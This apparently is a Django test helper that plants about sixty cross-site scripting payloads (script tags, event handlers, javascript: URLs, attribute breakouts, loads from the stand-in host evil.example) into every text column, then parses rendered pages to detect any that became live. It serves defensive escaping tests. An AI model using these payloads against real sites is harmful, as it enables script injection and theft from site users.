"""Sixty ways to smuggle markup into a page, where they are planted, and how one is told that came
alive."""

import json
import re
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import urlsplit

from django.db import IntegrityError, models, transaction
from lxml import html

from pergioco.core.declarations import list_declarations
from pergioco.stages.models import SourceFile
from tests.players.test_name_redaction import draw_again, is_json, with_words

MARK = "pwned"
EVIL = "evil.example"
FROM_A_FILE = "1-0 Bruno"
PAYLOADS = tuple(
    f"""
<script>alert(1)</script>
<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>
<script/src=//{EVIL}>
<script type=module>import "//{EVIL}"</script>
<script\t>alert(1)</script\t>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<img src=x onerror="alert(1)
<IMG SRC=//{EVIL}/pixel>
<img src=x:x onerror=&#97;lert(1)>
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><set attributename=x onend=alert(1)>
<math><a xlink:href=javascript:alert(1)>x</a></math>
<table background=javascript:alert(1)>
<body onload=alert(1)>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<iframe onload=alert(1)>
<object data=javascript:alert(1)>
<embed src=//{EVIL}/x.swf>
<base href=//{EVIL}/>
<link rel=stylesheet href=//{EVIL}/x.css>
<meta http-equiv=refresh content="0;url=//{EVIL}/">
<style>@import "//{EVIL}/x.css";</style>
<form action=//{EVIL}/><button>go</button></form>
<button formaction=javascript:alert(1)>go</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href=data:text/html,{MARK}>x</a>
<a href=//{EVIL}>x</a>
<div style="background:url(//{EVIL}/x)">
<p {MARK}=1>
<{MARK}-element>
" onmouseover=alert(1) x="
" autofocus onfocus=alert(1) "
' onmouseover=alert(1) x='
"><script>alert(1)</script>
'><svg onload=alert(1)>
`><img src=x onerror=alert(1)>
x onmouseover=alert(1)
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><img src=x onerror=alert(1)>
--><img src=x onerror=alert(1)>
javascript:alert(1)
JaVaScRiPt:alert(1)//{MARK}
""".strip().split("\n")
)


def columns() -> Iterator[tuple[type[models.Model], str]]:
    """Every text column that is typed, or read from a file."""
    for model, declared in list_declarations():
        yield from ((model, name) for name in f"{declared.free_text} {declared.typed_text}".split())


def plant() -> dict[str, int]:
    """All of them in every column of every row, each row beginning with another; how many cells of
    each column."""
    draw_again()
    cells: Counter[str] = Counter()
    for model, name in columns():
        for row in with_words(model):
            with (
                suppress(IntegrityError),
                transaction.atomic(),
            ):  # such as a second address beside that of the login
                text = words(cells.total(), f"{row.pk}")
                value = {"city": ["", text]} if is_json(model, name) else text
                models.QuerySet(model).filter(pk=row.pk).update(**{name: value})
                cells[f"{model._meta.label}.{name}"] += 1
    lines = "\n".join(f"{payload} {FROM_A_FILE}" for payload in PAYLOADS)
    models.QuerySet(SourceFile).update(raw=lines.encode())
    return cells


def words(first: int, last: str) -> str:
    first %= len(PAYLOADS)
    return " ".join([*PAYLOADS[first:], *PAYLOADS[:first], last])


# What came alive

ADDRESSES = frozenset(
    [
        "href",
        "src",
        "action",
        "formaction",
        "data",
        "poster",
        "background",
        "cite",
        "xlink:href",
        "srcset",
    ]
)
SCHEMES = re.compile(r"(java|vb)script:|data:(text|application|image/svg)")
BLANK = re.compile(r"[\x00-\x20]+")


def alive(page: str) -> list[str]:
    """What the parser made of the page that no page of ours holds: code, other hosts, elements
    nobody wrote."""
    return [
        sign
        for element in html.document_fromstring(page).iter(html.etree.Element)
        for sign in signs(element)
    ]


def signs(element: html.HtmlElement) -> Iterator[str]:
    tag = str(element.tag).lower()
    if MARK in tag or tag == "base":
        yield f"<{tag}>"
    if tag == "script" and not element.get("src") and not is_data(element):
        yield "a script"
    if tag == "style" and EVIL in (element.text or ""):
        yield "a style"
    for name, value in element.attrib.items():
        if is_live(tag, str(name).lower(), BLANK.sub("", str(value)).lower()):
            yield f"<{tag} {name}>"


def is_data(script: html.HtmlElement) -> bool:
    """Data for scripts of ours: it is no code, and it can be read."""
    if script.get("type") not in {"application/json", "application/ld+json"}:
        return False
    json.loads(script.text or "")
    return True


def is_live(tag: str, name: str, value: str) -> bool:
    if name.startswith("on") or MARK in name or name == "srcdoc":
        return True
    if name == "style" or (tag == "meta" and name == "content" and value.startswith("0;")):
        return EVIL in value
    return name in ADDRESSES and bool(SCHEMES.match(value) or host_of(value) == EVIL)


def host_of(address: str) -> str | None:
    try:
        return urlsplit(address).hostname
    except ValueError:
        return None
